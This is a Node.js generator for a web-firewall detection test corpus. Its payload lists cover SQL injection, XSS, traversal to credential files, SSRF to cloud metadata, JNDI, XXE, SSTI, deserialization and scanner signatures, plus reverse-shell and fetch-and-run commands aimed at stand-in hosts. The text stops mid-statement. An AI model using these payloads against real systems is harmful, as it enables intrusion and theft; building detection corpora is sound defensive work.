#!/usr/bin/env node
// Generates the labelled detection corpus (attacks.jsonl, benign.jsonl) beside this file.
// Every payload and benign text here was written for Meshward; none is copied from a public
// payload list or WAF test suite. Requests are composed from payloads, placements (query, path,
// form, JSON, multipart, XML, GraphQL, headers, cookies) and evasions (encodings, case, comments,
// white space tricks), deterministically (seeded), so the files only change when this does.
//   node test/detection/corpus/generate.mjs
// One JSON object per line: {id, method, path, headers: [[name, value]...], body?, label
// ("attack" | "benign"), class (attack class, or the benign kind), evasive (bool), note}.
import { writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

const here = dirname(fileURLToPath(import.meta.url));
let seed = 20261128;
const rnd = () => {
  seed = (seed + 0x6d2b79f5) >>> 0;
  let t = seed;
  t = Math.imul(t ^ (t >>> 15), t | 1);
  t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
  return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
};
const pick = (a) => a[Math.floor(rnd() * a.length)];

// ---------------------------------------------------------------- encodings and evasions
const enc = (s) => encodeURIComponent(s);
const encAll = (s) => [...Buffer.from(s, 'utf8')].map((b) => '%' + b.toString(16).padStart(2, '0')).join('');
const double = (s) => enc(s).replace(/%/g, '%25');
const mixCase = (s) => s.replace(/[a-z]/gi, (c) => (rnd() < 0.5 ? c.toUpperCase() : c.toLowerCase()));
const b64 = (s) => Buffer.from(s, 'utf8').toString('base64');
const jsUnicode = (s) => [...s].map((c) => (/[a-z0-9]/i.test(c) ? c : '\\u' + c.charCodeAt(0).toString(16).padStart(4, '0'))).join('');
const htmlDec = (s) => [...s].map((c) => (/[a-z0-9 ]/i.test(c) ? c : `&#${c.charCodeAt(0)};`)).join('');
const htmlHex = (s) => [...s].map((c) => (/[a-z0-9 ]/i.test(c) ? c : `&#x${c.charCodeAt(0).toString(16)};`)).join('');
const uEnc = (s) => [...s].map((c) => (/[a-z0-9]/i.test(c) ? c : '%u00' + c.charCodeAt(0).toString(16).padStart(2, '0'))).join('');
const xmlEsc = (s) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

// ---------------------------------------------------------------- placements
const UA = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36';
const baseHeaders = () => [['user-agent', UA], ['accept', '*/*']];

function placeQuery(param, value, { raw = false } = {}) {
  return { method: 'GET', path: `/api/search?${param}=${raw ? value : enc(value)}&page=1`, headers: baseHeaders() };
}
function placePath(value, { raw = false } = {}) {
  return { method: 'GET', path: `/api/items/${raw ? value : enc(value)}`, headers: baseHeaders() };
}
function placeForm(param, value, { raw = false } = {}) {
  return {
    method: 'POST', path: '/account/update', headers: [...baseHeaders(), ['content-type', 'application/x-www-form-urlencoded']],
    body: `csrf=a81f09&${param}=${raw ? value : enc(value)}&submit=Save`,
  };
}
function placeJson(param, value, { rawJson } = {}) {
  const body = rawJson ?? JSON.stringify({ order: { id: 1042, [param]: value, items: [{ sku: 'A-1', qty: 2 }] } });
  return { method: 'POST', path: '/api/orders', headers: [...baseHeaders(), ['content-type', 'application/json']], body };
}
function placeMultipart(param, value, { filename } = {}) {
  const b = '----meshwardBoundary7d9f';
  const parts = [`--${b}\r\nContent-Disposition: form-data; name="title"\r\n\r\nquarterly report\r\n`];
  if (filename !== undefined) {
    parts.push(`--${b}\r\nContent-Disposition: form-data; name="file"; filename="${filename}"\r\nContent-Type: text/plain\r\n\r\n${value}\r\n`);
  } else {
    parts.push(`--${b}\r\nContent-Disposition: form-data; name="${param}"\r\n\r\n${value}\r\n`);
  }
  parts.push(`--${b}--\r\n`);
  return { method: 'POST', path: '/upload', headers: [...baseHeaders(), ['content-type', `multipart/form-data; boundary=${b}`]], body: parts.join('') };
}
function placeXml(value, { raw = false } = {}) {
  const body = raw ? value : `<?xml version="1.0"?><order><customer>Jane</customer><note>${xmlEsc(value)}</note></order>`;
  return { method: 'POST', path: '/soap/orders', headers: [...baseHeaders(), ['content-type', 'application/xml']], body };
}
function placeHeader(name, value) {
  const h = baseHeaders().filter(([n]) => n !== name);
  return { method: 'GET', path: '/home', headers: [...h, [name, value]] };
}
function placeCookie(value) {
  return { method: 'GET', path: '/dashboard', headers: [...baseHeaders(), ['cookie', `theme=dark; session=${enc(value)}; lang=en`]] };
}
function placeGraphql(value) {
  const query = `query Find($n: String) { users(filter: "${value.replace(/\\/g, '\\\\').replace(/"/g, '\\"')}") { id name } }`;
  return { method: 'POST', path: '/graphql', headers: [...baseHeaders(), ['content-type', 'application/json']], body: JSON.stringify({ query, variables: {} }) };
}

// A generic spread over placements for a value payload.
function spread(payload, params, evasive, extra = []) {
  const param = pick(params);
  const all = [
    () => placeQuery(param, payload),
    () => placeQuery(param, payload),
    () => placeForm(param, payload),
    () => placeJson(param, payload),
    () => placeMultipart(param, payload),
    () => placeCookie(payload),
    () => placeXml(payload),
    () => placeGraphql(payload),
    () => placePath(payload),
    ...extra,
  ];
  return pick(all)();
}

// ---------------------------------------------------------------- attack payloads (written here)
const SQLI = [
  `1' OR '1'='1`, `1' OR '1'='1' -- `, `x' or 1=1#`, `admin'--`, `admin' #`, `admin'/*`, `' or ''='`,
  `" or ""="`, `' OR 'x'='x`, `1 OR 1=1`, `1 or 2>1`, `-1 UNION SELECT 1,2,3`, `0 union all select null,null,version()`,
  `1' UNION SELECT username,password FROM users--`, `') UNION SELECT table_name,NULL FROM information_schema.tables--`,
  `1; DROP TABLE customers`, `1'; DROP TABLE orders;--`, `'; EXEC xp_cmdshell('dir');--`, `1 AND SLEEP(5)`,
  `1' AND SLEEP(5)-- -`, `1) AND (SELECT 1 FROM (SELECT SLEEP(4))x)-- `, `1' AND BENCHMARK(5000000,MD5(1))#`,
  `'; WAITFOR DELAY '0:0:5'--`, `1 AND 1=2`, `1' AND '1'='2`, `1' ORDER BY 5--`, `1 ORDER BY 3#`, `' GROUP BY id HAVING 1=1--`,
  `' AND extractvalue(1,concat(0x7e,(select user())))-- `, `1' AND updatexml(null,concat(0x3a,version()),null)-- -`,
  `1 AND (SELECT COUNT(*) FROM pg_sleep(5)) > 0`, `';SELECT pg_sleep(5)--`, `1' || pg_sleep(3) || '`, `'+(SELECT 1)+'`,
  `1' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64-- `, `1 AND ord(mid(user(),1,1))=114`,
  `' UNION SELECT load_file('/etc/passwd'),2-- `, `1' INTO OUTFILE '/var/www/html/s.php'-- `, `1' AND 1=CONVERT(int,@@version)--`,
  `' OR EXISTS(SELECT * FROM users WHERE username='admin')--`, `1' and (select 1 from dual)=1--`, `') or ('a'='a`,
  `")) or (("x"="x`, `1' OR 1 -- -`, `' or true--`, `1 xor 1`, `10-(SELECT 5)`, `1' procedure analyse()#`,
  `1 and 1 in (select 1)`, `' or username like '%adm%`, `1;select * from users`, `0x31 union select 1`,
  `9999' UNION SELECT @@version,2#`, `'||(SELECT CHR(65)||CHR(66) FROM DUAL)||'`, `1' AND (SELECT * FROM (SELECT(SLEEP(5)))a)-- `,
  `admin' or '1'='1'/*`, `' or 1 in (select @@version)--`, `1' and 'a' between 'a' and 'z`, `name' AND 1=0 UNION ALL SELECT 'a','b`,
];
function sqliEvasions(p) {
  return [
    (s) => s.replace(/ /g, '/**/'),
    (s) => mixCase(s),
    (s) => s.replace(/union/ig, '/*!50000UnIoN*/').replace(/select/ig, '/*!50000SeLeCt*/'),
    (s) => s.replace(/ /g, '\n'),
    (s) => s.replace(/ /g, '\t'),
    (s) => s.replace(/'/g, '%27'),
    (s) => s.replace(/ OR /ig, ' || ').replace(/ AND /ig, ' && '),
    (s) => s.replace(/ /g, '+'),
  ].map((f) => f(p));
}

const XSS = [
  `<script>alert(1)</script>`, `<script src=//evil.example/x.js></script>`, `<img src=x onerror=alert(document.domain)>`,
  `<svg onload=alert(1)>`, `<svg/onload=confirm(1)>`, `<body onload=prompt(1)>`, `<iframe src="javascript:alert(1)"></iframe>`,
  `<a href="javascript:alert(document.cookie)">click</a>`, `"><script>alert(1)</script>`, `'><img src=1 onerror=alert(1)>`,
  `" onmouseover="alert(1)`, `' autofocus onfocus='alert(1)`, `<details open ontoggle=alert(1)>`, `<input autofocus onfocus=alert(1)>`,
  `<video><source onerror="alert(1)">`, `<math><mtext><a xlink:href="javascript:alert(1)">x</a></mtext></math>`,
  `javascript:alert(1)`, `JaVaScRiPt:alert(document.cookie)`, `';alert(String.fromCharCode(88,83,83));//`, `";alert(1);//`,
  `'-alert(1)-'`, `</script><script>alert(1)</script>`, `<object data="javascript:alert(1)">`, `<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">`,
  `<iframe srcdoc="<script>alert(1)</script>">`, `<div style="background:url(javascript:alert(1))">`, `<style>@import 'javascript:alert(1)';</style>`,
  `<marquee onstart=alert(1)>`, `<form action="javascript:alert(1)"><button>go</button></form>`, `<button formaction=javascript:alert(1)>x</button>`,
  `<img src="x" onerror="fetch('//evil.example/?c='+document.cookie)">`, `<x onclick=alert(1)>click`, `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<base href="//evil.example/">`, `<link rel=import href=//evil.example/x>`, `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<img src=x:alert(alt) onerror=eval(src) alt=0>`, `<body onpageshow=alert(1)>`, `<select onchange=alert(1)><option>1</option></select>`,
  `<textarea autofocus onfocus=alert(1)>`, `<keygen autofocus onfocus=alert(1)>`, `<audio src=x onerror=alert(1)>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`, `<img src=x onerror=window['al'+'ert'](1)>`, `alert(document.domain)`, `prompt(1)`,
  `"><svg/onload=eval(atob('YWxlcnQoMSk='))>`, `<a href=" &#14;  javascript:alert(1)">x</a>`, `<svg><script>alert&#40;1&#41;</script>`,
];
function xssEvasions(p) {
  return [
    (s) => mixCase(s),
    (s) => s.replace(/javascript/ig, 'java\tscript').replace(/ /g, '/'),
    (s) => s.replace(/</g, '%3C').replace(/>/g, '%3E'),
    (s) => htmlDec(s),
    (s) => s.replace(/alert/g, 'al\\u0065rt'),
    (s) => s.replace(/ /g, '\n'),
    (s) => s.replace(/=/g, ' = '),
  ].map((f) => f(p));
}

const TRAVERSAL = [
  `../../../../etc/passwd`, `../../../etc/shadow`, `..\\..\\..\\windows\\win.ini`, `/etc/passwd`, `....//....//....//etc/passwd`,
  `..%2f..%2f..%2fetc%2fpasswd`, `..;/..;/..;/etc/hosts`, `/proc/self/environ`, `../../../../proc/self/cmdline`,
  `C:\\Windows\\System32\\drivers\\etc\\hosts`, `../WEB-INF/web.xml`, `../../.ssh/id_rsa`, `../../../../../../var/log/auth.log`,
  `/var/run/secrets/kubernetes.io/serviceaccount/token`, `php://filter/convert.base64-encode/resource=index.php`,
  `php://input`, `expect://id`, `phar://uploads/avatar.jpg/shell`, `zip://uploads/a.zip#shell.php`, `file:///etc/passwd`,
  `../../../../boot.ini`, `..\\..\\..\\..\\inetpub\\wwwroot\\web.config`, `../../../home/app/.aws/credentials`,
  `/root/.bash_history`, `../../../etc/nginx/nginx.conf`, `../../../../../../../../etc/issue`, `../.git/config`, `../../.env`,
];
function travEvasions(p) {
  return [
    (s) => s.replace(/\//g, '%2f').replace(/\./g, '%2e'),
    (s) => s.replace(/\.\.\//g, '%252e%252e%252f'),
    (s) => s.replace(/\.\.\//g, '..%c0%af'),
    (s) => s.replace(/\//g, '\\'),
    (s) => s + '%00.png',
    (s) => s.replace(/\.\.\//g, '.../.../'.slice(0, 0) + '....//'),
  ].map((f) => f(p));
}

const RFI = [
  `http://evil.example/shell.txt?`, `https://203.0.113.9/c99.php?`, `ftp://evil.example/r57.txt`, `http://evil.example/cmd.txt??`,
  `http://198.51.100.7/inc/backdoor.php?`, `\\\\198.51.100.7\\share\\shell.php`, `https://attacker.example/payload.txt?x=`,
  `http://evil.example/include.inc?`, `//evil.example/shell.txt?`, `http://evil.example/webshell.php`,
];

const CMDI = [
  `; cat /etc/passwd`, `| id`, `|| whoami`, `&& uname -a`, `127.0.0.1; ls -la /`, `8.8.8.8 | nc 203.0.113.5 4444 -e /bin/sh`,
  `$(id)`, '`whoami`', `;wget http://evil.example/x.sh -O /tmp/x.sh;sh /tmp/x.sh`, `| curl -s http://evil.example/s | bash`,
  `; sleep 10`, `& ping -c 10 127.0.0.1 &`, `x; rm -rf /tmp/*`, `;bash -i >& /dev/tcp/203.0.113.5/4444 0>&1`,
  `| powershell -nop -c "IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a')"`, `& type C:\\Windows\\win.ini`,
  `| dir c:\\`, `; python -c 'import os;os.system("id")'`, `$(curl http://evil.example/$(whoami))`, `;cat$IFS/etc/passwd`,
  `;{cat,/etc/passwd}`, `;/???/c?t /etc/passwd`, `;w'h'o'a'm'i`, `; c\\at /etc/shadow`, `\n/bin/ls -al`, `| nslookup evil.example`,
  `; chmod 777 /tmp/x`, `&& certutil -urlcache -f http://evil.example/x.exe x.exe`, `;echo dGVzdA== | base64 -d | sh`,
  `|| perl -e 'print 1'`, `; php -r 'system("id");'`, `<?php system($_GET['c']); ?>`, `\${IFS}cat\${IFS}/etc/passwd`,
  `a;ncat 203.0.113.5 9001 -e /bin/bash`, `; tail -n 50 /var/log/syslog`, `| ifconfig`, `; netstat -an`, `&& env`,
];
function cmdiEvasions(p) {
  return [
    (s) => s.replace(/ /g, '${IFS}'),
    (s) => s.replace(/;/g, '%0a'),
    (s) => double(s),
    (s) => s.replace(/cat/g, "c''at").replace(/id/g, 'i\\d'),
    (s) => s.replace(/\/etc\/passwd/g, '/e??/p?ss??'),
  ].map((f) => f(p));
}

const SSRF = [
  `http://169.254.169.254/latest/meta-data/iam/security-credentials/`, `http://metadata.google.internal/computeMetadata/v1/`,
  `http://127.0.0.1:8080/admin`, `http://localhost/server-status`, `http://[::1]:6379/`, `http://2130706433/`,
  `http://0x7f000001/`, `http://0177.0.0.1/`, `http://127.1/`, `http://0/`, `http://[::ffff:127.0.0.1]/`, `http://[::ffff:7f00:1]:22/`,
  `http://169.254.169.254.nip.io/latest/`, `http://2852039166/latest/meta-data/`, `http://0xA9FEA9FE/`, `http://[fd00:ec2::254]/latest/`,
  `gopher://127.0.0.1:6379/_FLUSHALL`, `dict://127.0.0.1:11211/stats`, `http://user@127.0.0.1:2375/containers/json`,
  `http://evil.example@169.254.169.254/`, `http://100.100.100.200/latest/meta-data/`, `http://10.0.0.1.nip.io/`,
  `http://0x0a.0x00.0x00.0x01/`, `http://017700000001/`, `http://localhost.localdomain:9200/_cat/indices`, `http://kubernetes.default.svc/api`,
  `169.254.169.254`, `http://127.0.0.1:2379/v2/keys`, `http://[0:0:0:0:0:0:0:1]/`, `http://0.0.0.0:8500/v1/agent/self`,
];
const SSRF_PARAMS = ['url', 'callback', 'webhook', 'image_url', 'feed', 'target', 'redirect', 'next', 'proxy', 'uri'];

const JNDI = [
  '${jndi:ldap://evil.example/a}', '${jndi:rmi://203.0.113.4:1099/obj}', '${jndi:dns://evil.example}', '${${lower:j}ndi:ldap://evil.example/x}',
  '${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://evil.example/z}', '${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://evil.example/q}',
  '${${upper:j}${upper:n}${lower:d}${lower:i}:ldap://evil.example/}', '${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/}',
  '${${date:\'j\'}ndi:ldap://evil.example/d}', '${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.evil.example/}', '${env:DB_PASSWORD}',
  '${sys:java.version}', '${j${k8s:k5:-ND}i:ldap://evil.example/k}', '${jndi:iiop://evil.example/i}', '${jndi:ldaps://evil.example/s}',
  '%{(#_memberAccess["allowStaticMethodAccess"]=true).(@java.lang.Runtime@getRuntime().exec("id"))}',
  'class.module.classLoader.resources.context.parent.pipeline.first.pattern=x', 'T(java.lang.Runtime).getRuntime().exec("id")',
];
function jndiPlace(p) {
  return pick([
    () => placeHeader('user-agent', p), () => placeHeader('x-api-version', p), () => placeHeader('referer', p),
    () => placeHeader('x-forwarded-for', p), () => placeQuery('q', p), () => placeJson('username', p), () => placeForm('login', p),
    () => placeCookie(p),
  ])();
}

const SHELLSHOCK = [
  '() { :; }; /bin/bash -c "cat /etc/passwd"', '() { :;}; echo; /usr/bin/id', '() { _; } >_[$($())] { echo hi; }',
  '() { :; }; /bin/sleep 5', '() {:;}; wget http://evil.example/s', '() { x; }; ping -c 3 203.0.113.5',
];

const XXE = [
  `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`,
  `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/e.dtd"> %p;]><r/>`,
  `<!DOCTYPE foo SYSTEM "http://evil.example/evil.dtd"><foo>1</foo>`,
  `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;">]><l>&d;</l>`,
  `<?xml version="1.0"?><!DOCTYPE data [<!ENTITY file SYSTEM "php://filter/read=convert.base64-encode/resource=config.php">]><data>&file;</data>`,
  `<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hostname"/></foo>`,
  `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE soap [<!ENTITY ent PUBLIC "x" "http://198.51.100.2/x">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><q>&ent;</q></soap:Body></soap:Envelope>`,
  `<!DOCTYPE x [ <!ENTITY % a SYSTEM "file:///etc/passwd"> <!ENTITY % b "<!ENTITY &#37; c SYSTEM 'http://evil.example/?%a;'>"> %b; %c; ]><x/>`,
];

const SSTI = [
  `{{7*7}}`, `{{7*'7'}}`, `\${7*7}`, `#{7*7}`, `<%= 7*7 %>`, `{{config.items()}}`, `{{self.__class__.__mro__[1].__subclasses__()}}`,
  `{{''.__class__.__mro__[2].__subclasses__()[40]('/etc/passwd').read()}}`, `{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}`,
  `{{cycler.__init__.__globals__.os.popen('id').read()}}`, `{{lipsum.__globals__['os'].popen('whoami').read()}}`,
  `\${T(java.lang.Runtime).getRuntime().exec('id')}`, `<#assign ex="freemarker.template.utility.Execute"?new()>\${ex("id")}`,
  `#set($e="e")$e.getClass().forName("java.lang.Runtime")`, `{php}echo 'x';{/php}`, `{{_self.env.registerUndefinedFilterCallback("exec")}}`,
  `{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}`, `*{T(java.lang.System).getenv()}`,
  `<%= system("id") %>`, `{{#with "s" as |string|}}{{/with}}`, `@(1+2)`, `\${{7*7}}`, `{{ config['SECRET_KEY'] }}`, `{{ settings.SECRET_KEY }}`,
];

const NOSQLI_KEYS = [
  ['username[$ne]', 'x'], ['password[$ne]', ''], ['user[$gt]', ''], ['login[$regex]', '^adm'], ['pin[$exists]', 'true'],
  ['id[$nin][]', '1'], ['q[$where]', 'sleep(5000)'],
];
const NOSQLI_JSON = [
  `{"username":{"$ne":null},"password":{"$ne":null}}`, `{"user":"admin","pass":{"$gt":""}}`, `{"email":{"$regex":".*"},"password":{"$ne":"x"}}`,
  `{"$where":"this.password.length > 0"}`, `{"filter":{"$where":"sleep(5000) || true"}}`, `{"name":{"$exists":true}}`,
  `{"token":{"$nin":[]}}`, `{"age":{"$function":{"body":"function(){return 1}","args":[],"lang":"js"}}}`,
];
const NOSQLI_VALUES = [`'; return true; var x='`, `' || '1'=='1`, `{"$ne": 1}`, `';return this.password.match(/.*/);var a='`, `db.users.find({})`];

const LDAPI = [
  `*)(uid=*))(|(uid=*`, `admin)(&)`, `*)(|(objectClass=*)`, `x)(|(cn=*)(userPassword=*)`, `*))%00`, `admin)(!(&(1=0`,
  `(|(uid=*)(cn=*))`, `*)(mail=*))(|(mail=*`, `jdoe)(|(memberOf=cn=admins,dc=corp,dc=example)`, `*()|&'`,
];

const CRLF = [
  `%0d%0aSet-Cookie:%20session=hijacked`, `%0d%0aLocation:%20http://evil.example/`, `foo%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK`,
  `x%0aSet-Cookie:admin=1`, `%E5%98%8A%E5%98%8DSet-Cookie:%20a=b`, `%0d%0aX-XSS-Protection:%200%0d%0a%0d%0a<script>alert(1)</script>`,
  `en%0d%0aRefresh:%200;url=http://evil.example`, `%0d%0aAccess-Control-Allow-Origin:%20*`,
];
const MAIL = [
  `victim@example.com%0d%0aBcc:%20all@corp.example`, `user@example.com\r\nCc: list@example.org`, `me@example.com%0aTo:%20x@evil.example`,
  `hello%0d%0a.%0d%0aMAIL FROM:<a@evil.example>%0d%0aRCPT TO:<b@example.com>%0d%0aDATA`, `INBOX%0d%0aA001 LOGIN admin secret`,
  `x@example.com%0d%0aContent-Type:%20text/html`, `Subject line%0d%0aBcc: spam@evil.example`, `INBOX"%0d%0aA002 DELETE INBOX`,
];
const SSI = [
  `<!--#exec cmd="id"-->`, `<!--#include virtual="/etc/passwd"-->`, `<!--#echo var="DOCUMENT_ROOT"-->`, `<!--#exec cmd="cat /etc/shadow" -->`,
  `<!--#config errmsg="x"--><!--#printenv -->`, `<esi:include src="http://evil.example/x"/>`, `<!--#include file="../../web.config"-->`,
];
const DESER = [
  'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==', 'aced00057372001164617461',
  'O:8:"stdClass":1:{s:4:"cmd";s:2:"id";}', 'a:1:{i:0;O:7:"Example":1:{s:4:"file";s:11:"/etc/passwd";}}',
  '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start"}',
  '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://evil.example/x","autoCommit":true}',
  '!!python/object/apply:os.system ["id"]', '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil.example/"]]]]',
  '{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}', 'AAEAAAD/////AQAAAAAAAAAMAgAAAF9TeXN0ZW0u',
  '<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>id</string></void></array></object></java>',
  'cos\nsystem\n(S\'id\'\ntR.',
];
const SCANNERS = [
  'sqlmap/1.7.2#stable (https://sqlmap.org)', 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)', 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
  'masscan/1.3 (https://github.com/robertdavidgraham/masscan)', 'Mozilla/5.0 zgrab/0.x', 'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
  'Acunetix-Security-Scanner', 'WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)', 'Wfuzz/3.1.0', 'Fuzz Faster U Fool v2.1.0',
  'Mozilla/5.0 (compatible; Netsparker)', 'gobuster/3.6', 'w3af.org', 'DirBuster-1.0-RC1', 'Havij', 'commix/v3.8', 'Arachni/v1.5.1', 'OpenVAS-VT',
];

// ---------------------------------------------------------------- build attacks
const attacks = [];
let aid = 0;
function add(cls, req, evasive, note) {
  attacks.push({ id: `a${String(++aid).padStart(4, '0')}`, ...req, label: 'attack', class: cls, evasive, note });
}

function valueClass(cls, list, params, evasions, perPayload, extra = []) {
  for (const p of list) {
    for (let k = 0; k < perPayload; k++) {
      const evasive = evasions !== null && k % 2 === 1;
      const v = evasive ? pick(evasions(p)) : p;
      add(cls, spread(v, params, evasive, extra.map((f) => () => f(v))), evasive, evasive ? 'evasion' : 'plain');
    }
  }
}

valueClass('sqli', SQLI, ['id', 'user', 'q', 'sort', 'category', 'order_id', 'name'], sqliEvasions, 5);
valueClass('xss', XSS, ['q', 'comment', 'name', 'bio', 'title', 'message', 'redirect'], xssEvasions, 5,
  [(v) => placeHeader('referer', `https://shop.example/?q=${v}`)]);
valueClass('path-traversal', TRAVERSAL, ['file', 'path', 'template', 'doc', 'image', 'download'], travEvasions, 5,
  [(v) => ({ method: 'GET', path: `/static/${v.replace(/ /g, '%20')}`, headers: baseHeaders() })]);
for (const p of RFI) {
  for (let k = 0; k < 6; k++) {
    const evasive = k % 2 === 1;
    const v = evasive ? pick([double, uEnc, (s) => mixCase(s)])(p) : p;
    const param = pick(['page', 'include', 'file', 'template', 'module', 'path']);
    add('rfi', pick([() => placeQuery(param, v, { raw: evasive }), () => placeForm(param, v, { raw: evasive }), () => placeJson(param, v)])(), evasive, evasive ? 'evasion' : 'plain');
  }
}
valueClass('command-injection', CMDI, ['host', 'ip', 'cmd', 'file', 'domain', 'q', 'name'], cmdiEvasions, 4);
for (const p of SSRF) {
  for (let k = 0; k < 4; k++) {
    const evasive = k % 2 === 1;
    const v = evasive ? pick([double, (s) => s.replace('http', 'HtTp'), (s) => b64(s), jsUnicode])(p) : p;
    const param = pick(SSRF_PARAMS);
    add('ssrf', pick([() => placeQuery(param, v, { raw: false }), () => placeJson(param, v), () => placeForm(param, v)])(), evasive, evasive ? 'evasion' : 'plain');
  }
}
for (const p of JNDI) {
  for (let k = 0; k < 5; k++) {
    const evasive = k % 2 === 1;
    const v = evasive ? pick([(s) => encAll(s), (s) => s.replace(/\$\{/g, '$%7B'), jsUnicode])(p) : p;
    const cls = p.startsWith('%{') || p.startsWith('class.') || p.startsWith('T(') ? 'ssti' : 'jndi';
    add(cls, evasive ? pick([() => placeQuery('q', v, { raw: true }), () => placeJson('username', v)])() : jndiPlace(v), evasive, evasive ? 'evasion' : 'plain');
  }
}
for (const p of SHELLSHOCK) {
  for (let k = 0; k < 6; k++) {
    const evasive = k % 2 === 1;
    const v = evasive ? p.replace(/ /g, '  ').replace('() {', '()  {') : p;
    add('shellshock', pick([() => placeHeader('user-agent', v), () => placeHeader('referer', v), () => placeHeader('cookie', `x=${v}`), () => placeHeader('x-custom', v)])(), evasive, evasive ? 'evasion' : 'plain');
  }
}
for (const p of XXE) {
  for (let k = 0; k < 8; k++) {
    const evasive = k % 2 === 1;
    const v = evasive ? p.replace(/<!DOCTYPE/g, '<!doctype').replace(/SYSTEM/g, 'system').replace(/ /g, '\n  ') : p;
    add('xxe', pick([
      () => placeXml(v, { raw: true }),
      () => ({ ...placeXml(v, { raw: true }), headers: [...baseHeaders(), ['content-type', 'text/xml; charset=utf-8']] }),
      () => ({ ...placeXml(v, { raw: true }), headers: [...baseHeaders(), ['content-type', 'application/soap+xml']] }),
      () => placeForm('xml', v),
    ])(), evasive, evasive ? 'evasion' : 'plain');
  }
}
valueClass('ssti', SSTI, ['name', 'greeting', 'template', 'q', 'subject'], (p) => [enc(p), jsUnicode(p), p.replace(/ /g, '')], 3);
for (const [k, v] of NOSQLI_KEYS) {
  for (let i = 0; i < 4; i++) {
    const evasive = i % 2 === 1;
    const key = evasive ? encAll(k) : enc(k);
    add('nosqli', pick([
      () => ({ method: 'GET', path: `/api/login?${key}=${enc(v)}`, headers: baseHeaders() }),
      () => ({ method: 'POST', path: '/api/login', headers: [...baseHeaders(), ['content-type', 'application/x-www-form-urlencoded']], body: `${key}=${enc(v)}&remember=1` }),
    ])(), evasive, evasive ? 'evasion' : 'plain');
  }
}
for (const b of NOSQLI_JSON) {
  for (let i = 0; i < 4; i++) {
    const evasive = i % 2 === 1;
    const body = evasive ? b.replace(/\$/g, '\\u0024') : b;
    add('nosqli', { method: 'POST', path: '/api/login', headers: [...baseHeaders(), ['content-type', 'application/json']], body }, evasive, evasive ? 'evasion' : 'plain');
  }
}
valueClass('nosqli', NOSQLI_VALUES, ['username', 'search', 'q'], (p) => [enc(p), jsUnicode(p)], 2);
valueClass('ldap-injection', LDAPI, ['user', 'uid', 'login', 'search', 'cn'], (p) => [encAll(p), double(p), p.replace(/\(/g, '%28')], 5);
for (const p of CRLF) {
  for (let k = 0; k < 6; k++) {
    const evasive = k % 2 === 1;
    const v = evasive ? p.replace(/%0d/gi, '%250d').replace(/%0a/gi, '%250a') : p;
    add('crlf', pick([
      () => ({ method: 'GET', path: `/redirect?next=${v}`, headers: baseHeaders() }),
      () => ({ method: 'GET', path: `/lang/${v}`, headers: baseHeaders() }),
      () => ({ method: 'POST', path: '/prefs', headers: [...baseHeaders(), ['content-type', 'application/x-www-form-urlencoded']], body: `lang=${v}` }),
    ])(), evasive, evasive ? 'evasion' : 'plain');
  }
}
for (const p of MAIL) {
  for (let k = 0; k < 6; k++) {
    const evasive = k % 2 === 1;
    const v = evasive ? p.replace(/%0d%0a/gi, '%0A').replace(/\r\n/g, '\n') : p;
    const param = pick(['email', 'to', 'from', 'subject', 'mailbox']);
    add('mail-injection', pick([
      () => ({ method: 'POST', path: '/contact', headers: [...baseHeaders(), ['content-type', 'application/x-www-form-urlencoded']], body: `name=Ann&${param}=${v.includes('%') ? v : enc(v)}&msg=hi` }),
      () => ({ method: 'GET', path: `/newsletter?${param}=${v.includes('%') ? v : enc(v)}`, headers: baseHeaders() }),
      () => placeJson(param, decodeURIComponent(v)),
    ])(), evasive, evasive ? 'evasion' : 'plain');
  }
}
valueClass('ssi', SSI, ['comment', 'name', 'page', 'title'], (p) => [enc(p), htmlDec(p).replace(/&#60;/g, '%3C'), mixCase(p)], 6);
valueClass('deserialization', DESER, ['data', 'state', 'session', 'payload', 'obj'], (p) => [b64(p), enc(p)], 4,
